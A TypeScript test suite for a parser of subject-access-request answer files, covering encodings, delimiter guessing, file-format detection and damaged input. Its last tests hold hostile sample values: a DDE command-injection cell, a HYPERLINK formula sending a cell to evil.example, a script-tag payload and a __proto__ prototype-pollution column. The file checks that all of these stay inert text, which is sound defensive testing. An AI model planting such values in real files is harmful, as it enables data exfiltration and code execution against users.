/** Files of every kind: encodings, delimiters, disguises, damage and size. */
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { decodeText } from '#lib/sar/formats/decode-text.ts';
import { detectFormat } from '#lib/sar/formats/detect-format.ts';
import { guessDelimiter } from '#lib/sar/formats/guess-delimiter.ts';
import { readCells } from '#lib/sar/formats/read-cells.ts';
import { cellName } from '#lib/sar/formats/sheet.ts';
import { readAnswer } from '#lib/sar/read-answer.ts';

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const bytes = (...values: number[]): Uint8Array => Uint8Array.from([...values, ...utf8('rest of the file')]);
const utf16 = (text: string, bigEndian: boolean, mark: boolean): Uint8Array => {
  const out = Buffer.from(mark ? `\ufeff${text}` : text, 'utf16le');
  return new Uint8Array(bigEndian ? out.swap16() : out);
};
const rowsOf = async (name: string, content: Uint8Array) =>
  (await readCells({ name, bytes: content })).sheets[0]?.rows.map((row) => row.cells);

describe('encodings', () => {
  test.each([
    ['UTF-8', utf8('Tŷ,ŵ'), 'utf-8'],
    ['UTF-8 with its mark', utf8('\ufeffTŷ,ŵ'), 'utf-8'],
    ['UTF-16, small end first', utf16('Tŷ,ŵ', false, true), 'utf-16le'],
    ['UTF-16, big end first', utf16('Tŷ,ŵ', true, true), 'utf-16be'],
  ])('%s is read without a problem', (_name, content, encoding) => {
    expect(decodeText('a.csv', content)).toEqual({ text: 'Tŷ,ŵ', encoding, problems: [] });
  });

  test.each([
    [false, 'utf-16le'],
    [true, 'utf-16be'],
  ] as const)('UTF-16 without a mark is recognised (big end first: %s)', (bigEndian, encoding) => {
    expect(decodeText('a.csv', utf16('field,value\nEmail,none', bigEndian, false))).toMatchObject({
      text: 'field,value\nEmail,none',
      encoding,
    });
  });

  test('Windows-1252 is read, with a problem that says so', () => {
    const decoded = decodeText('a.csv', Uint8Array.from([0x5a, 0x6f, 0xeb, 0x2c, 0x93, 0x80, 0x94]));
    expect(decoded).toMatchObject({ text: 'Zoë,“€”', encoding: 'windows-1252', problems: [{ kind: 'encoding' }] });
  });

  test('a NUL loses nothing but itself', async () => {
    const file = { name: 'a.csv', bytes: utf8('field,value\nCity,Le\u0000eds\nWard,Kirkstall\n') };
    const answer = await readAnswer(file, { controller: null });
    expect(answer.facts.map((fact) => fact.value)).toEqual(['Le\uFFFDeds', 'Kirkstall']);
    expect(answer.problems).toMatchObject([{ kind: 'encoding', seen: '1 NUL character, shown as \uFFFD' }]);
  });

  test('a damaged character does not turn a whole Welsh text into another encoding', () => {
    const decoded = decodeText('a.csv', Uint8Array.from([...utf8('ŵŷâêîôûŵŷâêîôû'), 0xff, ...utf8(' ŵŷ')]));
    expect(decoded.encoding).toBe('utf-8');
    expect(decoded.problems).toMatchObject([{ kind: 'encoding' }]);
  });
});

describe('delimiters', () => {
  test.each([
    ['a,b,c\n1,2,3\n4,5,6', ','],
    ['a;b;c\n1,5;2,5;3,5\n4;5;6', ';'],
    ['a\tb\n1, x\t2\n3\t4', '\t'],
    ['a|b|c\n1|2|3', '|'],
    ['"one, two";b\n"three, four";d', ';'],
    ['Turnout;0,98\nLabour;0,31', ';'],
    ['Turnout;0,98', ';'],
    ['a,1;2\nb,3;4', ','],
    ['name^address\nJo^1 Elm Road, Leeds\nSam^2 Elm Road, Leeds', '^'],
    ['a~b~c\n1~2~3', '~'],
    ['name:ward\nJo:Kirkstall\nSam:Headingley', ':'],
    ['Turnout^0,98\nLabour^0,31', '^'],
    ['a,b\n~1,x~y\n2,z', ','],
    ['a^1,b\nc^2,d', ','],
    ['at,what\n10:30,call\n11:45,mail', ','],
  ])('%j is cut by %j', (text, delimiter) => expect(guessDelimiter(text)?.delimiter).toBe(delimiter));

  test.each([
    ['a time', '10:30\n11:45'],
    ['a time of day with its day', 'seen:2026-11-23T10:30:00Z\nkept:2026-11-24T11:45:00Z'],
    ['an address', 'https://example.org/a\nhttps://example.org/b'],
    ['a label', 'Name: Jo\nWard: Kirkstall'],
    ['a row that has no other delimiter', 'id\nurn:a\nurn:b'],
    ['an estimate', '~5\n~7'],
  ])('%s is not cut by what is rare between cells', (_name, text) => expect(guessDelimiter(text)).toBeNull());

  test('a letter is not a table, whatever commas it has', async () => {
    expect(await rowsOf('letter.txt', utf8('Dear Ms Example, thank you.\nWe hold nothing.\nYours, the team'))).toEqual([
      ['Dear Ms Example, thank you.'],
      ['We hold nothing.'],
      ['Yours, the team'],
    ]);
  });

  test('the first line of Excel names the delimiter', async () => {
    expect((await rowsOf('a.csv', utf8('sep=;\na;b,c\n1;2,5\n')))?.[1]).toEqual(['a', 'b,c']);
  });

  test.each(['^', '~', ':', '#', '§', '\t'])('and that may be any character: %j', async (mark) => {
    const rows = await rowsOf('a.csv', utf8(`sep=${mark}\r\na${mark}b,c\r\n1${mark}2,5\r\n`));
    expect(rows?.slice(1, 3)).toEqual([
      ['a', 'b,c'],
      ['1', '2,5'],
    ]);
  });

  test('also in a file that is not called CSV; a quotation mark is none', async () => {
    expect((await rowsOf('a.txt', utf8('sep=^\na^b\n')))?.[1]).toEqual(['a', 'b']);
    expect((await rowsOf('a.csv', utf8('sep="\na,b\n1,2')))?.at(-1)).toEqual(['1', '2']);
  });

  test('quoted cells keep their delimiters and line breaks, whatever the line ends', async () => {
    expect((await rowsOf('a.csv', utf8('"a\r\nb",c\r\n"d,e","f ""g"""\r\n')))?.slice(0, 2)).toEqual([
      ['a\nb', 'c'],
      ['d,e', 'f "g"'],
    ]);
  });

  test('columns are named as in a spreadsheet', () => {
    expect([cellName(1, 0), cellName(7, 25), cellName(7, 26), cellName(3, 701), cellName(3, 702)]).toEqual([
      'A1',
      'Z7',
      'AA7',
      'ZZ3',
      'AAA3',
    ]);
  });
});

describe('files that are something else', () => {
  test.each([
    ['xlsx', 'PK\u0003\u0004....xl/workbook.xml'],
    ['docx', 'PK\u0003\u0004....word/document.xml'],
    ['ods', 'PK\u0003\u0004mimetypeapplication/vnd.oasis.opendocument.spreadsheet'],
    ['zip', 'PK\u0003\u0004....letter.txt'],
    ['pdf', '%PDF-1.7'],
    ['rtf', String.raw`{\rtf1`],
    ['html', '<!DOCTYPE html><table>'],
    ['html', '\n<html xmlns:x="urn:schemas-microsoft-com:office:excel">'],
    ['json', '{"facts": []}'],
    ['mail', 'MIME-Version: 1.0\nFrom: a@example.org\n\nDear'],
    ['binary', 'a\u0000b\u0000\u0000c'],
    ['text', 'field,value\nCity,Le\u0000eds'],
    ['xml-sheet', '<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'],
    ['xml-sheet', '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'],
    [
      'xml-sheet',
      '<?xml version="1.0"?><office:document office:mimetype="application/vnd.oasis.opendocument.spreadsheet">',
    ],
    ['xml', '<?xml version="1.0"?><answer/>'],
    ['html', '<?xml version="1.0"?>\n<!DOCTYPE html><html>'],
    ['text', 'field,value'],
    ['text', '{curly} start of a letter'],
  ])('%s: %j', (format, head) => expect(detectFormat('a.csv', utf8(head))).toBe(format));

  test('a piece of a page is a page when it is called one', () => {
    expect(detectFormat('a.HTML', utf8('<!-- saved -->\n<p>We hold nothing.</p>'))).toBe('html');
    expect(detectFormat('a.txt', utf8('<p>We hold nothing.</p>'))).toBe('text');
  });

  test('old Office files and pictures are known by their first bytes', () => {
    expect(detectFormat('a.csv', bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1))).toBe('ole');
    expect(detectFormat('a.csv', bytes(0x89, 0x50, 0x4e, 0x47))).toBe('picture');
    expect(detectFormat('a.csv', bytes(0x1f, 0x8b))).toBe('gzip');
  });

  test.each([
    ['heic', 'HEIC', 'photo.heic', bytes(0, 0, 0, 0x18, ...utf8('ftypheic'), 0, 0, 0, 0, ...utf8('mif1heic'))],
    [
      'heic',
      'HEIC by another brand',
      'IMG_1.HEIC',
      bytes(0, 0, 0, 0x1c, ...utf8('ftypxxxx'), 0, 0, 0, 0, ...utf8('mif1heic')),
    ],
    ['packed', '7z', 'answer.7z', bytes(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4)],
    ['packed', 'RAR', 'answer.rar', bytes(0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 1, 0)],
    ['packed', 'XZ', 'answer.xz', bytes(0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 4)],
  ] as const)('%s: a file in %s says what to do', async (format, _, name, content) => {
    expect(detectFormat(name, content)).toBe(format);
    const { problems } = await readCells({ name, bytes: content });
    const seen = format === 'heic' ? /save or share it as JPEG or PNG/ : /unpack it and add the files inside/;
    expect(problems).toMatchObject([{ kind: 'unread-file', at: name, seen: expect.stringMatching(seen) }]);
  });

  test('a film is no photo', () => {
    expect(detectFormat('a.mp4', bytes(0, 0, 0, 0x18, ...utf8('ftypisom'), 0, 0, 0, 0, ...utf8('isommp42')))).not.toBe(
      'heic',
    );
  });

  test('a broken workbook called CSV is named as what it is, with what to do, and nothing is claimed of it', async () => {
    const answer = await readAnswer(
      { name: 'answer.csv', bytes: utf8('PK\u0003\u0004....xl/workbook.xml') },
      { controller: 'labour' },
    );
    expect(answer).toMatchObject({
      facts: [],
      statements: [],
      remainders: [],
      problems: [{ kind: 'unread-file', at: 'answer.csv' }],
    });
    expect(answer.problems[0]?.seen).toContain('a workbook that cannot be opened');
  });

  test('a workbook in XML is no web page', async () => {
    const file = { name: 'answer.csv', bytes: utf8('<?xml version="1.0"?>\n<Workbook></Workbook>') };
    expect((await readAnswer(file, { controller: null })).problems[0]?.seen).toContain('a spreadsheet in XML');
  });

  test('a PDF called PDF is a file that is not read yet', async () => {
    const answer = await readAnswer({ name: 'answer.pdf', bytes: utf8('%PDF-1.7') }, { controller: 'labour' });
    expect(answer.problems).toMatchObject([{ kind: 'unread-file', at: 'answer.pdf' }]);
  });

  test.each([
    ['field,value\n', 'empty', 'a heading of 2 columns'],
    ['Surname,City,Ward\n\n', 'empty', 'a heading of 3 columns'],
    ['Your data\nfield;value\n', 'empty', 'a heading of 2 columns'],
    [',,,\n,,,', 'empty', 'nothing in its cells'],
    ['hello', 'not-this-format', 'a single line'],
  ])(
    'a file without an answer (%j) is named, keeps its cells, and nobody is silent in it',
    async (text, kind, seen) => {
      const answer = await readAnswer({ name: 'a.csv', bytes: utf8(text) }, { controller: 'labour' });
      expect(answer).toMatchObject({ facts: [], statements: [], problems: [{ kind, at: 'a.csv' }] });
      expect(answer.problems[0]?.seen).toContain(seen);
      expect(answer.remainders.map((each) => each.text).join('')).toBe(text.replaceAll(/[,;\n]/g, ''));
    },
  );

  test.each(['We hold no email address for you.', 'Score,5'])('a single line (%j) may be an answer', async (text) => {
    const answer = await readAnswer({ name: 'a.txt', bytes: utf8(text) }, { controller: 'labour' });
    expect(answer.problems).toEqual([]);
    expect(answer.statements.filter((each) => each.stance === 'silent').length).toBeGreaterThan(0);
  });

  test.each(['', '\ufeff', ' \n\r\n ', ',,,\n,,,'])(
    'an empty file (%j) says nothing, not even silence',
    async (text) => {
      const answer = await readAnswer({ name: 'a.csv', bytes: utf8(text) }, { controller: 'labour' });
      expect(answer.statements).toEqual([]);
      if (text.trim() === '' || text === '\ufeff') expect(answer.problems).toMatchObject([{ kind: 'empty' }]);
    },
  );
});

describe('damage and size', () => {
  test('a quotation mark that is never closed does not swallow the rest', async () => {
    const answer = await readAnswer(
      { name: 'a.csv', bytes: utf8('field,value\nNotes,"said hello\nCity,Leeds\nEmail,none held\n') },
      { controller: null },
    );
    expect(answer.facts.map((fact) => fact.label)).toEqual(['Notes', 'City']);
    expect(answer.problems).toMatchObject([{ kind: 'broken-line' }]);
  });

  test('ragged rows keep what can be read and are counted', async () => {
    const answer = await readAnswer(
      { name: 'a.csv', bytes: utf8('field,value,source\nCity,Leeds\nWard,Kirkstall,Register,extra,more\n') },
      { controller: null },
    );
    expect(answer.facts.map((fact) => fact.value)).toEqual(['Leeds', 'Kirkstall']);
    expect(answer.remainders.map((remainder) => remainder.text)).toEqual(['extra', 'more']);
    expect(answer.problems.map((each) => each.kind)).toEqual(['ragged-row', 'ragged-row']);
  });

  test('rows that end too early are one problem for their table, with their number', async () => {
    const text = 'Surname,City,Ward\nExample\nExample,Leeds\nExample,Leeds,Kirkstall\nExample,Leeds\n';
    const answer = await readAnswer({ name: 'a.csv', bytes: utf8(text) }, { controller: null });
    expect(answer.problems).toMatchObject([{ kind: 'ragged-row', at: 'a.csv row 2, 3, 5' }]);
    expect(answer.problems[0]?.seen).toMatch(/^3 have fewer cells than the heading/);
  });

  test('a row of one cell opens a section in a long table, unless it is a label without its value', async () => {
    const text = 'field,value,source\nScores\nTurnout,77%,Modelled\nCity\n';
    const answer = await readAnswer({ name: 'a.csv', bytes: utf8(text) }, { controller: null });
    expect(answer.problems).toMatchObject([{ kind: 'ragged-row', at: 'a.csv row 4' }]);
  });

  test.each([
    ['=1+1', 1],
    ['=HYPERLINK(A1)', 1],
    ['@SUM(A1)', 1],
    ['-2+3', 1],
    ['+N58', 1],
    ["+cmd|' /C calc'!A0", 1],
    ['-18', 0],
    ['+44 20 7946 0000', 0],
    ['+44 (0)20 7946 0000', 0],
    ['@example', 0],
    ['- see below', 0],
    ['=====', 0],
  ])('the formula cells of %j are counted: %d', async (cell, count) => {
    const answer = await readAnswer(
      { name: 'a.csv', bytes: utf8(`field;value\nNotes;${cell}\n`) },
      { controller: null },
    );
    const seen = 'formula cells were kept as text and not evaluated: 1, the first in B2';
    expect(answer.facts.map((fact) => fact.value)).toEqual([cell]);
    expect(answer.problems.map((each) => [each.kind, each.seen])).toEqual(count === 0 ? [] : [['formula-cells', seen]]);
  });

  test('a cell of 10 MB is kept whole, named, and not searched', async () => {
    const large = 'We hold no email address for you. '.repeat(310_000);
    const answer = await readAnswer(
      { name: 'a.csv', bytes: utf8(`field,value\nNotes,"${large}"\nCity,Leeds\n`) },
      { controller: null },
    );
    expect(answer.facts.map((fact) => fact.value)).toEqual(['Leeds']);
    expect(answer.remainders.find((each) => each.where.cell === 'B2')?.text).toHaveLength(large.trim().length);
    expect(answer.problems).toMatchObject([{ kind: 'too-large', at: 'a.csv B2' }]);
  }, 20_000);

  test('formulas and markup are text, and a column called __proto__ changes nothing', async () => {
    const answer = await readAnswer(
      { name: 'hostile.csv', bytes: new Uint8Array(readFileSync('tests/fixtures/sar/hostile.csv')) },
      { controller: null },
    );
    expect(answer.facts.map((fact) => fact.value)).toEqual(
      expect.arrayContaining([
        'polluted',
        '=HYPERLINK("https://evil.example/?q="&A1,"open")',
        '<script>alert(1)</script>',
      ]),
    );
    expect(answer.facts.find((fact) => fact.label === '__proto__')?.value).toBe('polluted');
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
  });
});
